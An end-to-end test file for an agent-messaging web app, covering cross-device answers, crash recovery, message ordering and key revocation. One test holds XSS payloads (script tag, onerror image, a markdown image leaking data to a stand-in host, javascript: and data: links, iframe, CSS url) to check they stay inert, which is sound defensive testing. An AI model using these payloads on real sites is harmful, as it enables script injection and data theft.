import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { restAs } from '../support/rest.ts';
import { startBrowser, visit } from './support/browser.ts';
import { readLog } from './support/read-log.ts';
import { begin, startRunning } from './support/running.ts';
import { signIn } from './support/sign-in.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await startBrowser();
});
afterAll(() => browser.close());

test('G10 K1 an answer given in one window closes the question in every other; whoever answers later is told who was first', async () => {
  await using running = await startRunning();
  const { beckon, person, agent } = running;
  const id = await begin(agent, 'Starting');
  await using desk = await visit(browser, beckon.url);
  await using pocket = await visit(browser, beckon.url, 'phone');
  for (const each of [desk, pocket]) {
    await each.signIn(person);
    await each.page.goto(`/instances/${id}`);
    await each.page.getByRole('log').getByText('Starting').waitFor();
  }
  const shown = await Promise.all([desk.document(), pocket.document()]);
  const question = { agent_instance_id: id, content: 'Red or blue?\n[OPTIONS]\n1. Red\n2. Blue\n[/OPTIONS]' };
  const asked = await agent('POST', '/messages/agent', { ...question, requires_user_input: true });
  for (const { page } of [desk, pocket]) await page.getByRole('region', { name: 'Question', exact: true }).waitFor();

  await pocket.page.getByRole('button', { name: 'Blue' }).tap();
  for (const { page } of [desk, pocket]) {
    await page.getByRole('region', { name: 'Question', exact: true }).waitFor({ state: 'detached' });
    await page.getByRole('log').getByText('Answered by Ada Lovelace').waitFor();
  }
  const late = await (
    await signIn(beckon.url, person)
  ).rest('POST', `/asks/${asked.body.message_id}/answer`, {
    content: 'Red',
  });
  expect(late.status).toBe(409);
  expect(late.body.detail).toContain('Ada Lovelace');
  expect(late.body.detail).toContain('Blue');
  expect(await Promise.all([desk.document(), pocket.document()])).toEqual(shown);
  const at = `agent_instance_id=${id}&last_read_message_id=${asked.body.message_id}`;
  const { body } = await agent('GET', `/messages/pending?${at}`);
  expect(body).toMatchObject({ status: 'ok', messages: [{ content: 'Blue' }] });
});

test('G4 G5 G9 the server is killed under a watching person: the page says so, comes back by itself, and has missed nothing', async () => {
  await using running = await startRunning();
  const { beckon, person, agent } = running;
  const id = await begin(agent, 'Before the crash');
  await using watcher = await visit(browser, beckon.url);
  const { page } = watcher;
  await watcher.signIn(person);
  await page.goto(`/instances/${id}`);
  const log = page.getByRole('log');
  await log.getByText('Before the crash').waitFor();
  const shown = await watcher.document();

  watcher.expectComplaint(/ERR_CONNECTION_REFUSED/);
  await beckon.kill();
  await page.getByLabel('Connection: Offline').waitFor();
  await page.getByRole('textbox', { name: 'Message' }).fill('Written while it was away');
  await page.getByRole('button', { name: 'Send' }).click();
  await log.getByText('Written while it was away').waitFor();
  await watcher.picture('offline');
  await running.again();
  await agent('POST', '/messages/agent', { agent_instance_id: id, content: 'After the crash' });

  await page.getByLabel('Connection: Live').waitFor();
  await log.getByText('After the crash').waitFor();
  await log
    .getByText('Delivered to the agent')
    .or(log.getByText('Saved; waits for the agent’s next contact'))
    .waitFor();
  expect(await log.getByText('Written while it was away').count()).toBe(1);
  expect(await watcher.document()).toBe(shown);
  const { body } = await agent('GET', `/agent-instances/${id}`);
  const contents = (body.messages as { content: string }[]).map(({ content }) => content);
  expect(contents.toSorted()).toEqual(['After the crash', 'Before the crash', 'Written while it was away']);
  // The screen and the record agree on the order, too.
  await expect.poll(() => log.getByText(/the crash$|while it was away/).allTextContents()).toEqual(contents);
});

test('G2 G3 a torrent of messages arrives on the screen whole, once each and in order', async () => {
  await using running = await startRunning();
  const { beckon, person, agent } = running;
  const id = await begin(agent, 'step 0');
  await using watcher = await visit(browser, beckon.url, 'phone');
  await watcher.signIn(person);
  await watcher.page.goto(`/instances/${id}`);
  const log = watcher.page.getByRole('log');
  await log.getByText('step 0', { exact: true }).waitFor();

  const lanes = Array.from({ length: 8 }, async (_, lane) => {
    for (let n = 0; n < 25; n++) {
      const content = `step ${1 + lane * 25 + n}`;
      expect((await agent('POST', '/messages/agent', { agent_instance_id: id, content })).status).toBe(200);
    }
  });
  await Promise.all(lanes);
  const { body } = await agent('GET', `/agent-instances/${id}?message_limit=500`);
  const contents = (body.messages as { content: string }[]).map(({ content }) => content);
  expect(new Set(contents).size).toBe(201);
  // The end of the log stays in sight while it grows.
  await log.getByText(contents.at(-1) ?? '', { exact: true }).waitFor();
  await expect.poll(() => log.getByText(contents.at(-1) ?? '', { exact: true }).isVisible()).toBe(true);
  const shown = await readLog(watcher.page);
  expect(shown.map(([, text]) => /^step \d+$/m.exec(text)?.[0])).toEqual(contents);
});

test('hostile text stays text: nothing runs, nothing is fetched from elsewhere, no link leads into a script', async () => {
  await using running = await startRunning();
  const { beckon, person, agent } = running;
  const hostile = [
    'Look here',
    '<script>document.title = "owned"</script>',
    '<img src="http://192.0.2.1/a.png" onerror="document.title = \'owned\'">',
    '![secret](http://192.0.2.1/leak?data=1)',
    '[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)',
    '<iframe src="http://192.0.2.1/"></iframe>',
    '<style>body { background: url(http://192.0.2.1/css) }</style>',
  ].join('\n\n');
  await using watcher = await visit(browser, beckon.url);
  const { page } = watcher;
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await watcher.signIn(person);
  const id = await begin(agent, hostile);
  await page
    .getByRole('main')
    .getByRole('link', { name: /crawler/ })
    .click();
  await page.getByRole('log').getByText('Look here').waitFor();
  const question = { agent_instance_id: id, content: `${hostile}\n[OPTIONS]\n1. <b>Yes</b>\n[/OPTIONS]` };
  await agent('POST', '/messages/agent', { ...question, requires_user_input: true });
  await page.getByRole('button', { name: '<b>Yes</b>' }).waitFor();
  await watcher.picture('hostile');

  expect(
    asked.filter((each) => !each.startsWith(beckon.url) && !each.startsWith(beckon.url.replace('http', 'ws'))),
  ).toEqual([]);
  expect(await page.title()).not.toContain('owned');
  const links = await page.getByRole('link').evaluateAll((all) => all.map((each) => each.getAttribute('href') ?? ''));
  expect(links.filter((href) => !/^(\/|#main$|https?:)/.test(href))).toEqual([]);
  expect(await page.locator('iframe, main img, main style, main script').count()).toBe(0);
});

test('a key made in the dashboard works at once, and no more after it was revoked there', async () => {
  await using running = await startRunning();
  const { beckon, person } = running;
  await using watcher = await visit(browser, beckon.url);
  const { page } = watcher;
  await watcher.signIn(person);
  await page.getByRole('link', { name: 'Keys' }).click();
  await page.getByLabel('Name', { exact: true }).fill('my robot');
  await page.getByRole('button', { name: 'Make a key' }).click();
  const key = await page.getByLabel('The new key').inputValue();
  expect(key).toMatch(/^bkn_/);
  await watcher.picture('new-key');
  const robot = restAs(beckon.url, { key });
  expect((await robot('GET', '/auth/verify')).status).toBe(200);

  const row = page.getByRole('listitem').filter({ hasText: 'my robot' });
  await row.getByRole('button', { name: 'Revoke' }).click();
  await page.getByRole('button', { name: 'Revoke it' }).click();
  await row.getByText('Revoked').waitFor();
  await expect.poll(async () => (await robot('GET', '/auth/verify')).status).toBe(401);
});
